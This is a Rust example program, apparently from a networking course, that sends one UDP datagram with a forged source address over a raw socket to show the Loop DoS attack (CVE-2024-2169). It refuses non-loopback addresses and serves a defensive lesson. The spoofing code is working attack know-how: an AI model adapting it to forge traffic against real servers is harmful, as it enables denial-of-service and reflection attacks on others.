//! What an attacker does to a UDP server: one datagram with a forged source address.
//!
//! UDP believes the source address written in each datagram, and with a raw socket (root,
//! or `CAP_NET_RAW`) anyone can write any address there. This sends one datagram to `TO`
//! that claims to come from `FROM`; the server will answer `FROM`, not us. Forge it with the
//! server's own address, or with another server's, and a server without a reply rule
//! answers itself, or the other server, forever (the Loop DoS attack, CVE-2024-2169). See
//! `shared::reply` for what the servers here do about it.
//!
//! ```text
//! sudo cargo run -p module3h-udp-multiclient --example udp_forge -- 127.0.0.1:12354 127.0.0.1:12000 hello
//!                                                            FROM (forged) ^      TO ^
//! ```
//!
//! Loopback only: it refuses any address outside 127.0.0.0/8, and sends one datagram.
//! Linux only (a raw socket that lets us write the UDP header; other systems differ).

use std::net::{SocketAddr, SocketAddrV4};
use std::process::ExitCode;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (Some(from), Some(to)) = (parse(args.first()), parse(args.get(1))) else {
        shared::error::print_error(
            &"usage: udp_forge FROM TO [TEXT] (IPv4 loopback addresses, e.g. 127.0.0.1:12000)",
        );
        return ExitCode::from(2);
    };
    let text = args.get(2).map_or("forged", String::as_str);
    match send_forged(from, to, text.as_bytes()) {
        Ok(()) => {
            shared::console::print_line(format_args!(
                "sent {} bytes to {to}, forged from {from}",
                text.len()
            ));
            ExitCode::SUCCESS
        }
        Err(error) => {
            shared::error::print_error(&format!(
                "cannot send a forged datagram (root needed?): {error}"
            ));
            ExitCode::FAILURE
        }
    }
}

/// An IPv4 loopback address, or nothing.
fn parse(arg: Option<&String>) -> Option<SocketAddrV4> {
    match arg?.parse::<SocketAddr>().ok()? {
        SocketAddr::V4(addr) if addr.ip().is_loopback() => Some(addr),
        _ => None,
    }
}

#[cfg(target_os = "linux")]
fn send_forged(from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> std::io::Result<()> {
    use socket2::{Domain, Protocol, Socket, Type};
    // A raw UDP socket: the kernel writes the IP header (with `from`'s IP, since we bind
    // it), and we write the UDP header, source port included.
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP))?;
    socket.bind(&SocketAddr::V4(SocketAddrV4::new(*from.ip(), 0)).into())?;
    let length = u16::try_from(8 + payload.len()).map_err(std::io::Error::other)?;
    let mut datagram = Vec::with_capacity(usize::from(length));
    datagram.extend_from_slice(&from.port().to_be_bytes());
    datagram.extend_from_slice(&to.port().to_be_bytes());
    datagram.extend_from_slice(&length.to_be_bytes());
    datagram.extend_from_slice(&[0, 0]); // no checksum: allowed over IPv4
    datagram.extend_from_slice(payload);
    socket.send_to(&datagram, &SocketAddr::V4(SocketAddrV4::new(*to.ip(), 0)).into())?;
    Ok(())
}

#[cfg(not(target_os = "linux"))]
fn send_forged(_: SocketAddrV4, _: SocketAddrV4, _: &[u8]) -> std::io::Result<()> {
    Err(std::io::Error::other("this example forges datagrams on Linux only"))
}
